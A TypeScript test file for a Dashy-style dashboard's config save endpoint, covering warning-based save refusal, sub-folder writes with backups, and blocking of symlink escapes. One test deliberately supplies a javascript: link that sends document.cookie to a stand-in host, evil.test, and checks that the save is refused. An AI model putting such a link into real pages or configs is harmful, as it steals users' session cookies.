// Reading forgives what Dashy only warns about; saving does not let new problems in. A save is
// refused when the text has errors, or warnings the file on disk does not already have; the
// warnings a file brought from Dashy already had do not block it. Sub-folder pages save in place.
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { startTestDashboard } from './support/dashboard.js';
import type { TestDashboard } from './support/dashboard.js';

// Two things Dashy warns about and serves anyway: an empty description and an unknown target.
const FROM_DASHY = `pageInfo:
  title: Before
sections:
  - name: Media
    items:
      - title: Jellyfin
        url: http://jellyfin.lan
        description:
      - title: Router
        url: http://router.lan
        target: iframe
`;

let dashboard: TestDashboard;
const conf = () => readFile(join(dashboard.userDataDir, 'conf.yml'), 'utf8');

beforeEach(async () => {
  dashboard = await startTestDashboard({ config: FROM_DASHY });
});
afterEach(async () => {
  await dashboard.stop();
});

async function refused(body: unknown): Promise<Array<{ path: string; line?: number; message: string }>> {
  const response = await dashboard.save(body);
  expect(response.status).toBe(400);
  const answer = (await response.json()) as { error: string; reason: string; errors: Array<{ path: string; line?: number; message: string }> };
  expect(answer).toMatchObject({ error: 'bad request', reason: 'invalid configuration' });
  return answer.errors;
}

describe('the save rule', () => {
  it('lets a file keep the warnings it already had', async () => {
    const next = FROM_DASHY.replace('Before', 'After');
    const response = await dashboard.save({ config: next });
    expect(response.status).toBe(200);
    expect(await conf()).toBe(next);
  });

  it('refuses a new warning, naming only what is new, and writes nothing', async () => {
    const next = `${FROM_DASHY}      - title: Photos\n        url: http://photos.lan\n        description:\n`;
    expect(await refused({ config: next })).toEqual([
      { path: 'sections[0].items[2].description', line: 14, column: 21, message: 'Invalid input: expected string, received null; ignored' },
    ]);
    expect(await conf()).toBe(FROM_DASHY);
    expect(existsSync(join(dashboard.userDataDir, '.backups'))).toBe(false);
  });

  it('refuses a link that would run code', async () => {
    const next = FROM_DASHY.replace('http://jellyfin.lan', "'javascript:fetch(`//evil.test/?`+document.cookie)'");
    expect(await refused({ config: next })).toEqual([
      { path: 'sections[0].items[0].url', line: 7, column: 14, message: 'a javascript: link could run code in the dashboard; ignored' },
    ]);
    expect(await conf()).toBe(FROM_DASHY);
  });

  it('refuses errors, listing the new warnings with them', async () => {
    const next = `${FROM_DASHY.replace('  title: Before', '  title: Before\n  description:')}    displayData: { hideForGuests: maybe }\n`;
    const errors = await refused({ config: next });
    expect(errors.map((error) => `${error.line} ${error.path}`)).toEqual(['13 sections[0].displayData.hideForGuests', '3 pageInfo.description']);
    expect(await conf()).toBe(FROM_DASHY);
  });

  it('counts the same warning twice when it now occurs twice', async () => {
    const withTwo = FROM_DASHY.replace('        target: iframe\n', '        target: iframe\n        description:\n');
    expect((await refused({ config: withTwo })).map((error) => error.path)).toEqual(['sections[0].items[1].description']);
  });

  it('accepts a save that fixes warnings, and then holds the file to the stricter standard', async () => {
    const fixed = FROM_DASHY.replace('        description:\n', '').replace('target: iframe', 'target: modal');
    expect((await dashboard.save({ config: fixed })).status).toBe(200);
    expect((await refused({ config: FROM_DASHY })).map((error) => error.path)).toEqual(['sections[0].items[0].description', 'sections[0].items[1].target']);
  });

  it('holds a new file to the full standard: it has no warnings to keep', async () => {
    expect((await refused({ config: 'sections:\n  - name: Work\n    icon:\n', filename: 'work.yml' })).map((error) => error.path)).toEqual(['sections[0].icon']);
    expect(existsSync(join(dashboard.userDataDir, 'work.yml'))).toBe(false);
  });
});

describe('saving pages in sub-folders', () => {
  it('writes into an existing sub-folder, with the backup in the same sub-folder of .backups', async () => {
    await mkdir(join(dashboard.userDataDir, 'teams'));
    await writeFile(join(dashboard.userDataDir, 'teams', 'work.yml'), 'sections:\n  - name: Old\n');
    const response = await dashboard.save({ config: 'sections:\n  - name: New\n', filename: 'teams/work.yml' });
    expect(response.status).toBe(200);
    const body = (await response.json()) as { file: string; backup: string };
    expect(body.file).toBe('teams/work.yml');
    expect(body.backup).toMatch(/^\.backups\/teams\/work\.yml\.\d{4}-\d\d-\d\dT[\d-]+Z$/);
    expect(await readFile(join(dashboard.userDataDir, body.backup), 'utf8')).toBe('sections:\n  - name: Old\n');
    expect(await readFile(join(dashboard.userDataDir, 'teams', 'work.yml'), 'utf8')).toBe('sections:\n  - name: New\n');
    expect(await (await dashboard.get('/teams/work.yml')).text()).toBe('sections:\n  - name: New\n');
  });

  it('refuses a folder that does not exist or leads outside, and writes nothing there', async () => {
    const outside = await mkdtemp(join(tmpdir(), 'hearth-outside-'));
    try {
      await writeFile(join(outside, 'target.yml'), 'sections: []\n');
      await symlink(outside, join(dashboard.userDataDir, 'linked'));
      await symlink(join(outside, 'target.yml'), join(dashboard.userDataDir, 'escape.yml'));
      for (const filename of ['missing/work.yml', 'linked/work.yml', 'linked/target.yml', 'escape.yml']) {
        const response = await dashboard.save({ config: 'sections:\n  - name: Planted\n', filename });
        expect(response.status, filename).toBe(400);
        expect(((await response.json()) as { reason: string }).reason).toContain(`${filename} is not in a folder inside it`);
      }
      expect((await readdir(outside)).sort()).toEqual(['target.yml']);
      expect(await readFile(join(outside, 'target.yml'), 'utf8')).toBe('sections: []\n');
      expect(existsSync(join(dashboard.userDataDir, 'missing'))).toBe(false);
    } finally {
      await rm(outside, { recursive: true, force: true });
    }
  });
});
